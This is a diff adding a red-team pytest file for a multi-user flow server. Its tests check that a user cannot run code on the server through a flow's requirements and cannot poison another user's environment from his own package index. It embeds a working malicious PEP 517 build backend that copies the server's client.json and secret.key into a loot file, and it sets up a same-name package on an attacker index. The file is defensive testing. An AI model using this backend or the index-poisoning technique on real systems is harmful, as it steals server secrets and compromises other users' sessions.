@@ -1,0 +1,215 @@
+"""Red team: bob, a Data Scientist, against alice (another one) and the server itself, on a
+real server with real (sandboxed) sessions.
+
+Each test is one attack that worked before its fix (or still does: ``xfail(strict=True)``
+with the fix it needs). What held is in the closing report, not here.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import http.server
+import io
+import os
+import shutil
+import signal
+import tarfile
+import threading
+import time
+from pathlib import Path
+
+import httpx
+import pytest
+
+from flowsession.backends.compute import procs, sandbox
+from flowsession.config import Settings
+from helpers.server import Server
+
+pytestmark = [pytest.mark.timeout(600),
+              pytest.mark.skipif(sandbox.bwrap_path() is None and not os.environ.get("CI"),
+                                 reason="the session boundary needs bubblewrap")]
+
+ECHO_YAML = """\
+inputs:
+  x: {type: string}
+outputs:
+  y: {type: string, reference: "${echo.output}"}
+nodes:
+- name: echo
+  type: python
+  source: {type: code, path: echo.py}
+  inputs: {x: "${inputs.x}"}
+"""
+ECHO_PY = "from promptflow.core import tool\n\n\n@tool\ndef echo(x: str) -> str:\n    return x\n"
+
+
+@pytest.fixture(scope="module")
+def server(tmp_path_factory, images_dir, index):
+    home = tmp_path_factory.mktemp("redteam") / "home"
+    srv = Server(home, images_dir, index.url)
+    try:
+        yield srv
+    finally:
+        srv.stop()
+        runtime = Settings(home=home).runtime_dir
+        for pid in procs.with_argument_under(str(runtime)):
+            with contextlib.suppress(OSError):
+                os.kill(pid, signal.SIGKILL)
+        shutil.rmtree(runtime, ignore_errors=True)
+
+
+def api(srv: Server, token: str, timeout: float = 300) -> httpx.Client:
+    return httpx.Client(base_url=srv.url, headers={"Authorization": f"Bearer {token}"},
+                        timeout=timeout)
+
+
+def new_user(srv: Server, name: str) -> str:
+    with api(srv, srv.token) as admin:
+        r = admin.post("/api/users", json={"name": name, "roles": ["Data Scientist"]})
+        assert r.status_code == 201, r.text
+        return r.json()["token"]
+
+
+@pytest.fixture(scope="module")
+def owner_secret(server) -> bytes:
+    with api(server, server.token) as admin:  # the Owner keeps a secret: the key exists
+        r = admin.post("/api/connections", json={"name": "owner_openai", "type": "custom",
+                                                 "secrets": {"key": "sk-owner-secret-0123"}})
+        assert r.status_code in (200, 201), r.text
+    return (server.home / "secret.key").read_bytes().strip()
+
+
+@pytest.fixture(scope="module")
+def bob(server, owner_secret) -> httpx.Client:
+    with api(server, new_user(server, "bob")) as c:
+        yield c
+
+
+@pytest.fixture(scope="module")
+def alice(server, owner_secret) -> httpx.Client:
+    with api(server, new_user(server, "alice")) as c:
+        yield c
+
+
+def wait_operation(client: httpx.Client, answer: httpx.Response, timeout: float = 300) -> dict:
+    body = answer.json()
+    op = body.get("operation") or body
+    deadline = time.monotonic() + timeout
+    while op.get("id") and op.get("status") not in ("succeeded", "failed"):
+        assert time.monotonic() < deadline, op
+        time.sleep(0.2)
+        op = client.get(f"/api/operations/{op['id']}").json()
+    return op
+
+
+# --- 1. a flow's requirements run code on the server, outside any sandbox --------------------
+
+BACKEND_PY = '''\
+"""A PEP 517 build backend that is an attacker's code: it runs wherever the sdist is built."""
+import os, pathlib
+home = pathlib.Path(os.environ.get("FLOWSESSION_HOME", "/nonexistent"))
+loot = home / "flows" / "bob" / "builder" / "loot.txt"
+try:
+    loot.write_text((home / "client.json").read_text() + "\\n"
+                    + (home / "secret.key").read_text())
+except OSError:
+    pass
+raise RuntimeError("this backend builds nothing")
+'''
+
+
+def evil_sdist() -> bytes:
+    """evilpkg-1.0.tar.gz: an in-tree build backend, no static metadata (so it must be
+    built to be resolved)."""
+    files = {"evilpkg-1.0/pyproject.toml": '[build-system]\nrequires = []\n'
+             'build-backend = "backend"\nbackend-path = ["."]\n',
+             "evilpkg-1.0/backend.py": BACKEND_PY}
+    buf = io.BytesIO()
+    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
+        for name, text in files.items():
+            data = text.encode()
+            info = tarfile.TarInfo(name)
+            info.size = len(data)
+            tar.addfile(info, io.BytesIO(data))
+    return buf.getvalue()
+
+
+@contextlib.contextmanager
+def serve_bytes(name: str, data: bytes):
+    """bob's own web server (anywhere on the internet, in real life)."""
+
+    class Handler(http.server.BaseHTTPRequestHandler):
+        def do_GET(self):  # noqa: N802
+            if self.path.lstrip("/") != name:
+                self.send_error(404)
+                return
+            self.send_response(200)
+            self.send_header("Content-Length", str(len(data)))
+            self.end_headers()
+            self.wfile.write(data)
+
+        def log_message(self, *args):
+            pass
+
+    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
+    thread.start()
+    try:
+        yield f"http://127.0.0.1:{httpd.server_address[1]}/{name}"
+    finally:
+        httpd.shutdown()
+        httpd.server_close()
+
+
+def test_a_flows_requirements_cannot_run_code_on_the_server(server, bob, owner_secret):
+    with serve_bytes("evilpkg-1.0.tar.gz", evil_sdist()) as url:
+        r = bob.post("/api/flows", json={"name": "builder", "files": {
+            "flow.dag.yaml": ECHO_YAML, "echo.py": ECHO_PY,
+            "requirements.txt": f"evilpkg @ {url}\n"}})
+        assert r.status_code == 201, r.text
+        r = bob.post("/api/flows/builder/session")
+        assert r.status_code == 202, r.text
+        op = wait_operation(bob, r)
+    assert op["status"] == "failed", op  # a source distribution is refused, not built
+    assert "Building source distributions" in op["error"]["message"], op
+    loot = bob.get("/api/flows/builder/files/loot.txt")
+    assert loot.status_code == 404, loot.text[:300]
+    assert not (server.home / "flows" / "bob" / "builder" / "loot.txt").exists()
+    assert owner_secret not in loot.content and server.token.encode() not in loot.content
+
+
+# --- 2. an environment built from bob's index is handed to alice ----------------------------
+
+WHICH_YAML = ECHO_YAML.replace("echo.py", "which.py").replace("${echo.output}",
+                                                              "${echo.output}")
+WHICH_PY = ("from promptflow.core import tool\n\n\n@tool\ndef echo(x: str) -> str:\n"
+            "    import tinysecret\n    return getattr(tinysecret, 'BUILT_BY', 'the index')\n")
+
+
+def test_an_environment_built_from_another_users_index_is_never_shared(
+        server, bob, alice, tmp_path):
+    from helpers.index_server import LocalIndex
+    from helpers.wheels import build_wheel
+
+    # bob's own index serves a package of the same name and version as the server's index
+    # (in real life: a popular package, e.g. requests==2.32.3), with his code in it
+    build_wheel(tmp_path / "bobs-index", "tinysecret", "1.0", modules={
+        "tinysecret/__init__.py": '__version__ = "1.0"\nBUILT_BY = "bob"\n'})
+    with LocalIndex(tmp_path / "bobs-index") as bobs:
+        r = bob.post("/api/flows", json={"name": "poison", "files": {
+            "flow.dag.yaml": WHICH_YAML, "which.py": WHICH_PY,
+            "requirements.txt": f"-i {bobs.url}\ntinysecret==1.0\n"}})
+        assert r.status_code == 201, r.text
+        r = bob.post("/api/flows/poison/test", json={"inputs": {"x": "-"}})
+        assert r.status_code == 200, r.text
+        assert r.json()["outputs"] == {"y": "bob"}  # his own session has his package
+    # alice asks for the same package from the server's index
+    r = alice.post("/api/flows", json={"name": "victim", "files": {
+        "flow.dag.yaml": WHICH_YAML, "which.py": WHICH_PY,
+        "requirements.txt": "tinysecret==1.0\n"}})
+    assert r.status_code == 201, r.text
+    r = alice.post("/api/flows/victim/test", json={"inputs": {"x": "-"}})
+    assert r.status_code == 200, r.text
+    assert r.json()["outputs"] == {"y": "the index"}, "alice's session runs bob's package"
+    for who, flow in ((bob, "poison"), (alice, "victim")):
+        who.post(f"/api/flows/{flow}/session/stop")
